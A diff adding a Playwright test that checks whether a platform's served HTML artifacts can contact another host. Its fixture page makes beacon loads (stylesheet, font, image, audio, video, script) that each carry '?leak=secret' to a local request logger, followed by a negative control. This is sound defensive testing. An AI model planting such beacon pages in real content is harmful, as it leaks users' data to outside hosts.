@@ -9,12 +9,14 @@ from typing import Any
 
 import pytest
 from django.urls import reverse
-from playwright.sync_api import Page, Route
+from playwright.sync_api import Browser, Page, Route
 
+from creations.artifacts.display import artifact_displays
 from tests.support.artifacts import Output, finished_run
 from tests.support.fixtures.accounts import PASSWORD, Team
 from tests.support.fixtures.browser import IMAGE_WIDTH, Web
 from tests.support.media_samples import hostile_html, hostile_markdown, hostile_svg
+from tests.support.request_log import RequestLog
 
 pytestmark = [
     pytest.mark.browser,
@@ -162,3 +164,44 @@ def test_negative_control_unsanitized_markdown_from_the_platform_origin_runs_scr
     page.wait_for_load_state("load")
     assert page.evaluate("window.__pwned === true")
     assert web.requested_within(page, "/__pwned__/markdown")
+
+
+def beacons(url: str) -> bytes:
+    """An HTML page that tries every kind of load a page can make without script, all to `url`."""
+    return f"""<!doctype html><html><head><title>Tokyo map</title>
+<link rel="stylesheet" href="{url}/style.css?leak=secret">
+<style>
+  @font-face {{ font-family: leak; src: url({url}/font.woff?leak=secret); }}
+  body {{ font-family: leak; background: url({url}/background.png?leak=secret); }}
+</style></head><body>
+<img src="{url}/img.png?leak=secret">
+<audio src="{url}/audio.wav?leak=secret" preload="auto"></audio>
+<video src="{url}/video.mp4?leak=secret" preload="auto"></video>
+<script src="{url}/script.js?leak=secret"></script>
+<p id="done">done</p>
+</body></html>""".encode()
+
+
+def test_html_sends_nothing_to_another_host(web: Web, team: Team, browser: Browser) -> None:
+    # Over HTTPS, with its certificate accepted: a policy that let `https:` through would show here.
+    with RequestLog(tls=True) as elsewhere:
+        page_html = beacons(elsewhere.url)
+        run = finished_run(workspace=team.workspace, author=team.owner, outputs=[Output("map.html", page_html)])
+        url = artifact_displays([run.artifacts.get()], user=team.owner)[0].url
+        assert url.startswith(web.artifacts + "/r/")
+        context = browser.new_context(ignore_https_errors=True)
+        try:
+            page = context.new_page()
+            page.goto(url)
+            page.locator("#done").wait_for()
+            page.wait_for_timeout(1500)
+            assert elsewhere.paths == []
+
+            # The negative control: the same page served from loopback without the policy reaches it.
+            with RequestLog(page=page_html) as naive:
+                page.goto(f"{naive.url}/map.html")
+                page.locator("#done").wait_for()
+                page.wait_for_timeout(1500)
+            assert "/img.png?leak=secret" in elsewhere.paths
+        finally:
+            context.close()
